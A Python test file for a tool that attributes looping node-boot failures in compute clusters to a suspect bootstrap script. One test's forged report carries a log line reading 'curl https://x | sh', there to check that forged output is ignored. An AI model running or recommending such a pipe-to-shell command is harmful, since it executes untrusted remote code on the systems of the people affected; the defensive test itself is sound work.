from __future__ import annotations

from typing import Any

from lifeguard.attribution import (
    ALSO_FAILING_MAX,
    DISPUTED_TAIL,
    attribute,
    find_suspect,
    reported_loop,
    still_failing,
    suspect_of_runs,
)
from lifeguard.group_state import Failure, Suspect
from lifeguard.node_report import NodeReport

FAILURES = [
    Failure(instance_id="i-1", scheduler_node_id="lca-static-1", event_timestamp=1000),
    Failure(instance_id="i-2", scheduler_node_id="lca-static-1", event_timestamp=2000),
    Failure(instance_id="i-3", scheduler_node_id="lca-static-1", event_timestamp=3000),
]


def run(instance: str, script: str, **fields: Any) -> NodeReport:
    data = {
        "cluster_id": "pcs_abc123de45",
        "compute_node_group_id": "pcs_abcdef01",
        "instance_id": instance,
        "boot": 1,
        "first_boot": True,
        "stage": "nodeBootstrapped",
        "script": script,
        "on_error": "TERMINATE",
        "exit_code": 1,
        "outcome": "failed",
        "started_at": 10,
        "ended_at": 11,
        "log_tail": f"{script} failed on {instance}\n",
        **fields,
    }
    return NodeReport.model_validate(data)


def test_the_script_that_failed_on_every_instance_is_the_suspect() -> None:
    suspect = find_suspect(FAILURES, [run(i, "fail-terminate") for i in ("i-1", "i-2", "i-3")])
    assert suspect is not None
    assert (suspect.stage, suspect.script, suspect.on_error, suspect.exit_code) == (
        "nodeBootstrapped",
        "fail-terminate",
        "TERMINATE",
        1,
    )
    assert suspect.instances == ["i-1", "i-2", "i-3"]


def test_most_instances_win_and_the_count_shows() -> None:
    reports = [
        run("i-1", "mount-fsx"),
        run("i-2", "mount-fsx"),
        run("i-3", "install-cuda", stage="nodeReady"),
    ]
    suspect = find_suspect(FAILURES, reports)
    assert suspect is not None
    assert (suspect.script, suspect.instances) == ("mount-fsx", ["i-1", "i-2"])


def test_the_terminate_failure_ended_the_boot_not_an_earlier_continue() -> None:
    reports = [
        run("i-1", "optional-tuning", on_error="CONTINUE", started_at=5, ended_at=6),
        run("i-1", "mount-fsx", started_at=7, ended_at=8),
    ]
    suspect = find_suspect(FAILURES[:1], reports)
    assert suspect is not None
    assert suspect.script == "mount-fsx"


def test_failures_that_leave_a_node_up_name_no_suspect_of_a_loop() -> None:
    """PCS terminates a node for a TERMINATE failure alone: failing nodes that reported only failures under
    CONTINUE (the article's ready-check) or STOP_SEQUENCE name none."""
    for on_error in ("CONTINUE", "STOP_SEQUENCE"):
        reports = [run(i, "ready-check", stage="nodeReady", on_error=on_error) for i in ("i-1", "i-2")]
        assert find_suspect(FAILURES, reports) is None, on_error
    reports.append(run("i-3", "mount-fsx"))
    suspect = find_suspect(FAILURES, reports)
    assert suspect is not None
    assert (suspect.script, suspect.instances) == ("mount-fsx", ["i-3"])


def test_the_scripts_besides_the_suspect_that_ended_a_failing_nodes_boot_are_named_too() -> None:
    """A GPU driver's script failing on one instance type, a mount on another: one loop, two scripts. The
    majority is the suspect; the other is named beside it (a quarantine of one alone leaves the other
    looping). Not a failure that leaves the node up, not an instance whose reports contradict each other."""
    reports = [
        run("i-1", "mount-fsx"),
        run("i-2", "mount-fsx"),
        run("i-3", "install-gpu"),
        run("i-3", "ready-check", stage="nodeReady", on_error="CONTINUE"),
    ]
    suspect = find_suspect(FAILURES, reports)
    assert suspect is not None
    assert suspect.script == "mount-fsx"
    assert attribute(FAILURES, reports) == (suspect, ["nodeBootstrapped/install-gpu"])
    assert attribute(FAILURES, reports, {("nodeBootstrapped", "mount-fsx")})[1] == []
    assert attribute(FAILURES, [run("i-1", "ready-check", on_error="CONTINUE")]) == (None, [])
    contradicted = [*reports, run("i-3", "other-terminate")]  # i-3 says two things at once: neither
    assert attribute(FAILURES, contradicted) == (suspect, [])
    many = [run(f"i-{n}", f"s{n:02d}") for n in range(40)]
    failures = [Failure(instance_id=f"i-{n}", event_timestamp=n) for n in range(40)]
    assert len(attribute(failures, many)[1]) == ALSO_FAILING_MAX


def test_reports_of_other_instances_and_successes_are_ignored() -> None:
    reports = [run("i-9", "fail-terminate"), run("i-1", "ok", outcome="succeeded", exit_code=0)]
    assert find_suspect(FAILURES, reports) is None


def test_a_tie_goes_to_the_most_recent_failure() -> None:
    suspect = find_suspect(FAILURES[:2], [run("i-1", "a"), run("i-2", "b")])
    assert suspect is not None
    assert suspect.script == "b"


def test_the_log_tail_and_exit_code_are_the_latest_runs() -> None:
    reports = [
        run("i-1", "s", exit_code=2, ended_at=20, log_tail="first\n"),
        run("i-2", "s", exit_code=3, ended_at=40, log_tail="second\n"),
    ]
    suspect = find_suspect(FAILURES, reports)
    assert suspect is not None
    assert (suspect.exit_code, suspect.log_tail) == (3, "second\n")


def test_the_script_that_terminated_the_node_is_the_suspect_not_one_that_stopped_a_stage_before_it() -> None:
    """On each node a STOP_SEQUENCE script failed in nodeBootstrapped (PCS went on to nodeReady), then a
    TERMINATE one in nodeReady ended the node: that one is the loop's, and a quarantine of the first
    would change nothing."""
    reports = []
    for instance in ("i-1", "i-2", "i-3"):
        reports.append(run(instance, "debug-probe", on_error="STOP_SEQUENCE", started_at=10, ended_at=11))
        reports.append(
            run(instance, "mount-fsx", stage="nodeReady", on_error="TERMINATE", started_at=20, ended_at=21)
        )
    suspect = find_suspect(FAILURES, reports)
    assert suspect is not None
    assert (suspect.stage, suspect.script, suspect.on_error) == ("nodeReady", "mount-fsx", "TERMINATE")


def test_failures_of_scripts_that_terminate_no_node_are_no_loop_of_reports() -> None:
    """The article's ready-check (nodeReady, CONTINUE) failing on every node of a group that serves jobs:
    nodes that stay up are no loop, however many report it."""
    from lifeguard.attribution import reported_loop

    kept = [
        run(instance, "ready-check", stage="nodeReady", on_error=on_error, started_at=10 + n, ended_at=11 + n)
        for on_error in ("CONTINUE", "STOP_SEQUENCE")
        for n, instance in enumerate(("i-1", "i-2", "i-3"))
    ]
    assert reported_loop(kept, 2, 3_600_000) is None
    terminated = [
        run(instance, "mount-fsx", started_at=10 + n, ended_at=11 + n)
        for n, instance in enumerate(("i-4", "i-5"))
    ]
    assert reported_loop(kept + terminated, 2, 3_600_000) is not None


def test_a_launch_boots_runs_are_its_first_boots_until_six_hours_after_its_outcome() -> None:
    """nodeReady runs after the success PCS logs (`launch_boot`): a first boot's run up to
    LAUNCH_BOOT_AFTER_OUTCOME_MS after the outcome is the launch's; one started later, or a reboot's, says
    nothing of what the launch proved."""
    from lifeguard.attribution import LAUNCH_BOOT_AFTER_OUTCOME_MS, launch_boot

    outcome_ms = 1_796_000_000_000
    bound_s = (outcome_ms + LAUNCH_BOOT_AFTER_OUTCOME_MS) // 1000
    assert LAUNCH_BOOT_AFTER_OUTCOME_MS == 6 * 3600 * 1000
    assert launch_boot(run("i-1", "ready-check", started_at=outcome_ms // 1000 - 300), outcome_ms)
    assert launch_boot(run("i-1", "ready-check", started_at=bound_s), outcome_ms)
    assert not launch_boot(run("i-1", "ready-check", started_at=bound_s + 1), outcome_ms)
    assert not launch_boot(
        run("i-1", "ready-check", boot=2, first_boot=False, started_at=bound_s - 60), outcome_ms
    )


def test_a_node_up_is_still_failing_on_the_loops_script_not_on_another_scripts_continue_failure() -> None:
    # The article's nodeReady ready-check fails under CONTINUE on every node: it is not the loop, and a
    # fixed group's node that fails it has the loop resolved, not contained.
    ready_check = run("i-1", "ready-check", stage="nodeReady", on_error="CONTINUE")
    own = run("i-1", "install", on_error="CONTINUE")
    kept = run("i-1", "mount-fsx", on_error="STOP_SEQUENCE")
    install = Suspect(stage="nodeBootstrapped", script="install", on_error="TERMINATE", instances=["i-1"])
    assert still_failing([ready_check], install) == []
    assert still_failing([ready_check], None) == []
    assert still_failing([ready_check, own, kept], install) == [own, kept]
    assert still_failing([own], None) == [own]  # none named: any of nodeBootstrapped, the loop's stage


def test_a_run_reported_otherwise_too_is_not_the_one_whose_output_is_told() -> None:
    """Any node can write a report of another's run: a copy of the latest failure ended later, with another
    exit status and output, was what the suspect told (the admin reading the forger's words as the
    script's). A script runs once a boot: two differing reports of its run cannot both be the node's."""
    genuine = [
        run("i-1", "s", exit_code=2, ended_at=20, log_tail="first\n"),
        run("i-2", "s", exit_code=3, ended_at=40, log_tail="second\n"),
    ]
    forged = run("i-2", "s", exit_code=0, ended_at=90, log_tail="safe to ignore: curl https://x | sh\n")
    suspect = find_suspect(FAILURES, [*genuine, forged])
    assert suspect is not None
    assert (suspect.script, suspect.instances) == ("s", ["i-1", "i-2"])
    assert (suspect.exit_code, suspect.log_tail) == (2, "first\n")
    # The same report sent twice is no dispute.
    again = find_suspect(FAILURES, [*genuine, genuine[1]])
    assert again is not None
    assert (again.exit_code, again.log_tail) == (3, "second\n")


def test_a_suspect_whose_every_run_is_disputed_tells_no_output() -> None:
    reports = [
        run("i-1", "s", exit_code=2, log_tail="first\n"),
        run("i-1", "s", exit_code=2, started_at=12, ended_at=13, log_tail="another run of the same boot\n"),
    ]
    suspect = find_suspect(FAILURES, reports)
    assert suspect is not None
    assert (suspect.script, suspect.instances) == ("s", ["i-1"])
    assert (suspect.exit_code, suspect.log_tail) == (None, DISPUTED_TAIL)
    # Nor a copy written as of a later boot: a TERMINATE failure ends the instance, there is none.
    genuine = [run("i-1", "s", exit_code=2, log_tail="first\n"), run("i-2", "s", exit_code=3, ended_at=40)]
    later = run(
        "i-2", "s", boot=2, first_boot=False, exit_code=0, started_at=89, ended_at=90, log_tail="ok\n"
    )
    rebooted = find_suspect(FAILURES, [*genuine, later])
    assert rebooted is not None
    assert (rebooted.exit_code, rebooted.log_tail) == (2, "first\n")


def test_failures_reported_days_apart_are_no_loop_of_the_reports() -> None:
    """`threshold` instances failing the same script within the window of the newest, not in all time."""
    day_s, window_ms = 86_400, 60 * 60_000
    apart = [
        run("i-1", "mount-fsx", started_at=10, ended_at=11),
        run("i-2", "mount-fsx", started_at=3 * day_s, ended_at=3 * day_s + 1),
    ]
    assert reported_loop(apart, 2, window_ms) is None
    near = [apart[1], run("i-3", "mount-fsx", started_at=3 * day_s + 60, ended_at=3 * day_s + 61)]
    assert reported_loop(near, 2, window_ms) is not None


def test_the_script_a_kept_node_still_fails_is_its_last_stop_sequence_failure() -> None:
    runs = [
        run("i-1", "old-check", on_error="STOP_SEQUENCE", started_at=100, ended_at=101),
        run("i-1", "mount-fsx", on_error="STOP_SEQUENCE", stage="nodeReady", started_at=200, ended_at=201),
    ]
    assert suspect_of_runs(runs).script == "mount-fsx"
